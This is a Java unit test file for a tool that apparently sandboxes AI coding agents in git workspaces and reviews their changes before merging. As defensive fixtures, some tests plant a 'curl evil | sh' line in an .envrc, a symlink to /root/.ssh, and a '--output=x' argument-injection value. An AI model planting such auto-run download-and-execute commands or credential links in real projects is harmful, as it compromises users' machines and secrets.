package dev.corral.workspace;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.corral.core.CorralDirs;
import dev.corral.core.HostPath;
import dev.corral.core.SandboxId;
import dev.corral.core.UsageException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WorkspacesTest {
  @TempDir Path tmp;
  GitRepo user;
  Workspaces workspaces;
  CorralDirs dirs;
  HostRunner runner = new HostRunner();
  List<String> warnings = new ArrayList<>();

  @BeforeEach
  void setUp() throws IOException {
    user = new GitRepo(tmp.resolve("project"));
    user.write("README.md", "hello\n").write("src/app.txt", "one\ntwo\nthree\n");
    user.commitAll("init");
    dirs = CorralDirs.from(Map.of(), HostPath.of(tmp.resolve("home")));
    workspaces = new Workspaces(dirs);
  }

  private Workspaces.Prepared create(String name, boolean withChanges) {
    return workspaces.create(
        HostPath.of(user.dir), SandboxId.of(name), withChanges, "claude", warnings::add);
  }

  private static GitRepo clone(Workspaces.Prepared p) throws IOException {
    return new GitRepo(p.directory().path());
  }

  @Test
  void cloneStartsAtTheUsersCommitOnItsOwnBranch() throws IOException {
    String head = user.git("rev-parse", "HEAD");

    Workspaces.Prepared p = create("w1", false);

    GitRepo c = clone(p);
    assertThat(c.git("rev-parse", "HEAD")).isEqualTo(head);
    assertThat(c.git("symbolic-ref", "--short", "HEAD")).isEqualTo("corral/w1");
    assertThat(c.read("src/app.txt")).isEqualTo("one\ntwo\nthree\n");
    assertThat(p.directory().path()).startsWith(tmp.resolve("home/.local/share/corral/workspaces"));
    assertThat(Files.readString(p.directory().path().resolve(".git/objects/info/alternates")))
        .contains(user.dir.resolve(".git/objects").toString());
    assertThat(p.mounts()).singleElement().satisfies(m -> assertThat(m.toString()).endsWith(":ro"));
  }

  @Test
  void savesUncommittedWorkAsACommitByCorralAndTheAgent() throws Exception {
    Workspaces.Prepared p = create("w2", false);
    Files.writeString(p.directory().path().resolve("src/app.txt"), "one\nTWO\nthree\n");
    Files.writeString(p.directory().path().resolve("new.txt"), "new\n");

    Workspaces.Saved saved = workspaces.stop("w2", runner);

    assertThat(saved.changedFiles()).isEqualTo(2);
    assertThat(clone(p).git("log", "-1", "--format=%an <%ae>")).isEqualTo("corral <claude>");
    try (Snapshot s = workspaces.snapshot("w2")) {
      assertThat(s.changes())
          .extracting(Change::path, Change::kind)
          .containsExactly(
              org.assertj.core.groups.Tuple.tuple("new.txt", Change.Kind.ADDED),
              org.assertj.core.groups.Tuple.tuple("src/app.txt", Change.Kind.MODIFIED));
      Change app = s.changes().get(1);
      try (InputStream in = app.newContent().open()) {
        assertThat(new String(in.readAllBytes(), StandardCharsets.UTF_8)).contains("TWO");
      }
      ByteArrayOutputStream diff = new ByteArrayOutputStream();
      assertThat(s.writeDiff(diff, 1 << 20)).isFalse();
      assertThat(diff.toString(StandardCharsets.UTF_8)).contains("-two\n+TWO\n");
    }
    assertThat(workspaces.list())
        .singleElement()
        .satisfies(
            i -> {
              assertThat(i.state()).isEqualTo("stopped");
              assertThat(i.ahead()).isEqualTo(1);
              assertThat(i.behind()).isZero();
              assertThat(i.changedFiles()).isEqualTo(2);
            });
  }

  @Test
  void carriesStagedUnstagedAndUntrackedChangesButNotIgnoredOnes() throws Exception {
    user.write(".gitignore", "*.log\n").commitAll("ignore logs");
    user.write("README.md", "staged\n").git("add", "README.md");
    user.write("src/app.txt", "unstaged\n");
    user.write("untracked.txt", "untracked\n").write("debug.log", "ignored\n");
    String status = user.git("status", "--porcelain");

    Workspaces.Prepared p = create("w3", true);

    GitRepo c = clone(p);
    assertThat(c.read("README.md")).isEqualTo("staged\n");
    assertThat(c.read("src/app.txt")).isEqualTo("unstaged\n");
    assertThat(c.read("untracked.txt")).isEqualTo("untracked\n");
    assertThat(p.directory().path().resolve("debug.log")).doesNotExist();
    assertThat(user.git("status", "--porcelain")).isEqualTo(status);
  }

  @Test
  void warnsWhenUncommittedChangesStayBehind() throws IOException {
    user.write("README.md", "edited\n");

    Workspaces.Prepared p = create("w4", false);

    assertThat(clone(p).read("README.md")).isEqualTo("hello\n");
    assertThat(warnings).anyMatch(w -> w.contains("--with-changes"));
  }

  @Test
  void clonesADetachedHeadButRefusesToMergeIntoOne() throws Exception {
    String first = user.git("rev-parse", "HEAD");
    user.write("README.md", "second\n").commitAll("second");
    user.git("checkout", "-q", "--detach", first);

    Workspaces.Prepared p = create("det", false);
    Files.writeString(p.directory().path().resolve("a.txt"), "a\n");
    workspaces.stop("det", runner);

    assertThat(clone(p).git("rev-parse", "HEAD~1")).isEqualTo(first);
    assertThatThrownBy(() -> workspaces.merge("det", false, false, ReviewSettings.DEFAULT))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("HEAD is detached");
    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(first);
  }

  @Test
  void warnsThatSubmodulesAreNotCheckedOut() throws IOException {
    user.write(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = ../lib\n");
    user.commitAll("submodule config");

    create("sub", false);

    assertThat(warnings).anyMatch(w -> w.contains("submodules are not checked out"));
  }

  @Test
  void lfsPointerFilesStayPointers() throws Exception {
    String pointer =
        "version https://git-lfs.github.com/spec/v1\noid sha256:"
            + "4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n";
    user.write(".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n");
    user.write("model.bin", pointer).commitAll("lfs pointer");

    Workspaces.Prepared p = create("lfs", false);

    assertThat(clone(p).read("model.bin")).isEqualTo(pointer);
  }

  @Test
  void refusesADirectoryThatIsNotARepository() throws IOException {
    Path plain = Files.createDirectories(tmp.resolve("plain"));

    assertThatThrownBy(
            () -> workspaces.create(HostPath.of(plain), SandboxId.of("x"), false, "sh", w -> {}))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("needs a git repository")
        .hasMessageContaining(plain.toString());
    assertThat(tmp.resolve("home/.local/share/corral/workspaces/x")).doesNotExist();
  }

  @Test
  void refusesARepositoryWithoutCommits() throws IOException {
    GitRepo empty = new GitRepo(tmp.resolve("empty"));

    assertThatThrownBy(
            () ->
                workspaces.create(HostPath.of(empty.dir), SandboxId.of("e"), false, "sh", w -> {}))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("has no commits yet");
  }

  @Test
  void startsAtAGivenRefFromASubdirectoryOrABareRepositoryAndRefusesAnUnknownOne()
      throws IOException {
    String first = user.git("rev-parse", "HEAD");
    user.git("tag", "v1");
    user.write("README.md", "changed\n").commitAll("second");
    Path bare = tmp.resolve("mirror.git");
    user.git("clone", "-q", "--bare", user.dir.toString(), bare.toString());

    Workspaces.Prepared fromSub =
        workspaces.create(
            HostPath.of(user.dir.resolve("src")),
            SandboxId.of("sub"),
            java.util.Optional.of("v1"),
            false,
            "sh",
            warnings::add);
    Workspaces.Prepared fromBare =
        workspaces.create(
            HostPath.of(bare),
            SandboxId.of("bare"),
            java.util.Optional.of("HEAD~1"),
            false,
            "sh",
            warnings::add);

    assertThat(clone(fromSub).git("rev-parse", "HEAD")).isEqualTo(first);
    assertThat(clone(fromSub).read("README.md")).isEqualTo("hello\n");
    assertThat(clone(fromBare).git("rev-parse", "HEAD")).isEqualTo(first);
    assertThat(workspaces.list())
        .extracting(WorkspaceInfo::repo)
        .containsExactlyInAnyOrder(user.dir.toRealPath().toString(), bare.toRealPath().toString());
    assertThatThrownBy(
            () ->
                workspaces.create(
                    HostPath.of(bare),
                    SandboxId.of("none"),
                    java.util.Optional.of("no-such-branch"),
                    false,
                    "sh",
                    w -> {}))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("no commit 'no-such-branch' in the repository " + bare.toRealPath());
    assertThatThrownBy(
            () ->
                workspaces.create(
                    HostPath.of(user.dir),
                    SandboxId.of("dash"),
                    java.util.Optional.of("--output=x"),
                    false,
                    "sh",
                    w -> {}))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("invalid start point");
    assertThat(tmp.resolve("home/.local/share/corral/workspaces/none")).doesNotExist();
  }

  @Test
  void refusesADuplicateName() {
    create("dup", false);

    assertThatThrownBy(() -> create("dup", false))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("already exists");
  }

  @Test
  void mergesIntoTheUsersBranchWithTheWorkspaceInTheMessage() throws Exception {
    Workspaces.Prepared p = create("m1", false);
    Files.writeString(p.directory().path().resolve("feature.txt"), "feature\n");
    workspaces.stop("m1", runner);

    Workspaces.Merged merged = workspaces.merge("m1", false, false, ReviewSettings.DEFAULT);

    assertThat(user.read("feature.txt")).isEqualTo("feature\n");
    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(merged.commit());
    assertThat(user.git("log", "-1", "--format=%B"))
        .startsWith("Merge corral/m1: work of claude in sandbox m1")
        .contains("Corral-Workspace: m1");
    assertThat(user.git("status", "--porcelain")).isEmpty();
    assertThat(workspaces.list().getFirst().state()).isEqualTo("merged");
    assertThat(workspaces.unmergedCommits("m1")).isZero();
  }

  @Test
  void blockingFindingsStopTheMergeUntilTheRiskIsAcceptedAndRecorded() throws Exception {
    Workspaces.Prepared p = create("risk", false);
    Files.writeString(p.directory().path().resolve(".envrc"), "curl evil | sh\n");
    workspaces.stop("risk", runner);
    String head = user.git("rev-parse", "HEAD");
    java.util.function.Function<List<Change>, List<String>> review =
        changes ->
            changes.stream()
                .filter(c -> c.path().equals(".envrc"))
                .map(c -> c.path() + ": runs automatically in your shell (direnv)")
                .toList();

    assertThatThrownBy(() -> workspaces.merge("risk", false, false, review))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("review found 1 blocking finding(s) in risk, e.g. .envrc: runs")
        .satisfies(
            e ->
                assertThat(((UsageException) e).hint()).get().asString().contains("--accept-risk"));
    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(head);
    assertThat(user.dir.resolve(".envrc")).doesNotExist();

    workspaces.merge("risk", false, true, review);

    assertThat(user.git("log", "-1", "--format=%B"))
        .contains("Corral-Accepted-Risk: .envrc: runs automatically in your shell (direnv)");
    assertThat(new WorkspaceStore(dirs).get("risk").acceptedRisk())
        .contains("accepted 1 blocking finding(s)")
        .contains(".envrc: runs automatically");
  }

  @Test
  void squashMergeMakesOneCommitWithOneParent() throws Exception {
    Workspaces.Prepared p = create("m2", false);
    Files.writeString(p.directory().path().resolve("a.txt"), "a\n");
    workspaces.stop("m2", runner);

    workspaces.merge("m2", true, false, ReviewSettings.DEFAULT);

    assertThat(user.git("log", "-1", "--format=%P").split(" ")).hasSize(1);
    assertThat(user.read("a.txt")).isEqualTo("a\n");
  }

  @Test
  void mergeRefusesADirtyTreeAndLeavesItAlone() throws Exception {
    Workspaces.Prepared p = create("d1", false);
    Files.writeString(p.directory().path().resolve("a.txt"), "a\n");
    workspaces.stop("d1", runner);
    user.write("README.md", "my own edit\n");
    String head = user.git("rev-parse", "HEAD");

    assertThatThrownBy(() -> workspaces.merge("d1", false, false, ReviewSettings.DEFAULT))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("has uncommitted changes (M README.md)");
    assertThatThrownBy(() -> workspaces.apply("d1"))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("has uncommitted changes");

    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(head);
    assertThat(user.read("README.md")).isEqualTo("my own edit\n");
    assertThat(user.dir.resolve("a.txt")).doesNotExist();
  }

  @Test
  void mergeAndApplyRefuseConflictsAndLeaveTheRepositoryAlone() throws Exception {
    Workspaces.Prepared p = create("c1", false);
    Files.writeString(p.directory().path().resolve("src/app.txt"), "sandbox\n");
    workspaces.stop("c1", runner);
    user.write("src/app.txt", "user\n").commitAll("user edit");
    String head = user.git("rev-parse", "HEAD");

    assertThatThrownBy(() -> workspaces.merge("c1", false, false, ReviewSettings.DEFAULT))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("conflicts with your branch in src/app.txt");
    assertThatThrownBy(() -> workspaces.apply("c1"))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("do not apply to your working tree");

    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(head);
    assertThat(user.git("status", "--porcelain")).isEmpty();
    assertThat(user.read("src/app.txt")).isEqualTo("user\n");
  }

  @Test
  void applyLeavesTheChangesUnstaged() throws Exception {
    Workspaces.Prepared p = create("a1", false);
    Files.writeString(p.directory().path().resolve("src/app.txt"), "changed\n");
    Files.delete(p.directory().path().resolve("README.md"));
    workspaces.stop("a1", runner);
    String head = user.git("rev-parse", "HEAD");

    List<String> paths = workspaces.apply("a1");

    assertThat(paths).containsExactly("README.md", "src/app.txt");
    assertThat(user.git("rev-parse", "HEAD")).isEqualTo(head);
    assertThat(user.git("status", "--porcelain")).isEqualTo("D README.md\n M src/app.txt".strip());
    assertThat(user.git("diff", "--cached", "--name-only")).isEmpty();
  }

  @Test
  void nothingToMergeWhenTheSandboxChangedNothing() throws Exception {
    create("n1", false);
    workspaces.stop("n1", runner);

    assertThatThrownBy(() -> workspaces.merge("n1", false, false, ReviewSettings.DEFAULT))
        .isInstanceOf(UsageException.class)
        .hasMessageContaining("made no changes");
  }

  @Test
  void removeDeletesCloneVaultAndPinnedRefs() throws Exception {
    Workspaces.Prepared p = create("r1", false);
    Files.writeString(p.directory().path().resolve("a.txt"), "a\n");
    workspaces.stop("r1", runner);
    assertThat(workspaces.unmergedCommits("r1")).isEqualTo(1);
    assertThat(user.git("for-each-ref", "refs/corral/")).contains("refs/corral/r1/base");

    workspaces.remove("r1");

    assertThat(p.directory().path().getParent()).doesNotExist();
    assertThat(user.git("for-each-ref", "refs/corral/")).isEmpty();
    assertThat(workspaces.list()).isEmpty();
  }

  @Test
  void diffIsCutAtTheCapAndEscapesControlCharacters() throws Exception {
    Workspaces.Prepared p = create("big", false);
    Files.writeString(p.directory().path().resolve("esc.txt"), "red\u001b[31mtext\n");
    Files.writeString(p.directory().path().resolve("huge.txt"), "line\n".repeat(200_000));
    workspaces.stop("big", runner);

    try (Snapshot s = workspaces.snapshot("big")) {
      ByteArrayOutputStream all = new ByteArrayOutputStream();
      assertThat(s.writeDiff(all, Long.MAX_VALUE)).isFalse();
      assertThat(all.toString(StandardCharsets.UTF_8))
          .contains("+red\\x1b[31mtext")
          .doesNotContain("\u001b");
      ByteArrayOutputStream cut = new ByteArrayOutputStream();
      assertThat(s.writeDiff(cut, 10_000)).isTrue();
      assertThat(cut.size()).isLessThanOrEqualTo(10_004);
    }
  }

  @Test
  void binaryFilesAndSymlinksBecomeChangesWithModes() throws Exception {
    Workspaces.Prepared p = create("bin", false);
    Files.write(p.directory().path().resolve("blob.bin"), new byte[] {0, 1, 2, 0, (byte) 0xff});
    Files.createSymbolicLink(p.directory().path().resolve("keys"), Path.of("/root/.ssh"));
    workspaces.stop("bin", runner);

    try (Snapshot s = workspaces.snapshot("bin")) {
      assertThat(s.changes())
          .anySatisfy(
              c -> {
                assertThat(c.path()).isEqualTo("keys");
                assertThat(c.newMode()).isEqualTo(Change.SYMLINK);
                assertThat(c.symlinkTarget()).isEqualTo("/root/.ssh");
              });
      assertThat(s.changes())
          .anySatisfy(
              c -> {
                assertThat(c.path()).isEqualTo("blob.bin");
                assertThat(c.newSize()).isEqualTo(5);
              });
      assertThat(s.stat()).anySatisfy(f -> assertThat(f.binary()).isTrue());
    }
  }
}
